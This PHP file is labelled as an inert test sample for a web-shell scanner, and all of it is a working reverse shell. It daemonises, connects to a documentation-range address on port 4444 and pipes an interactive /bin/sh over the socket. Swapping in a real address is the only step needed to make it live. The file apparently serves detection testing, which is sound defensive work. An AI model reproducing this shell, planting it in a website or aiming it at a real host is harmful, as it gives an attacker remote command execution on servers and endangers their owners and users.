<?php
// Inert test sample (webhunt): a back-connect shell that daemonises, dials the operator and hands
// an interactive shell's pipes to the socket. The address is a documentation range.
@set_time_limit(0);
$host = '203.0.113.45';
$port = 4444;
if (function_exists('pcntl_fork') && pcntl_fork() > 0) {
    exit(0);
}
$sock = @fsockopen($host, $port, $errno, $errstr, 30);
if (!$sock) {
    exit(1);
}
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$proc = proc_open('/bin/sh', $spec, $pipes);
stream_set_blocking($sock, false);
foreach ($pipes as $p) {
    stream_set_blocking($p, false);
}
while (!feof($sock)) {
    $read = array($sock, $pipes[1], $pipes[2]);
    $w = $e = null;
    if (stream_select($read, $w, $e, null) < 1) {
        break;
    }
    if (in_array($sock, $read)) {
        fwrite($pipes[0], fread($sock, 1400));
    }
    if (in_array($pipes[1], $read)) {
        fwrite($sock, fread($pipes[1], 1400));
    }
    if (in_array($pipes[2], $read)) {
        fwrite($sock, fread($pipes[2], 1400));
    }
}
proc_close($proc);
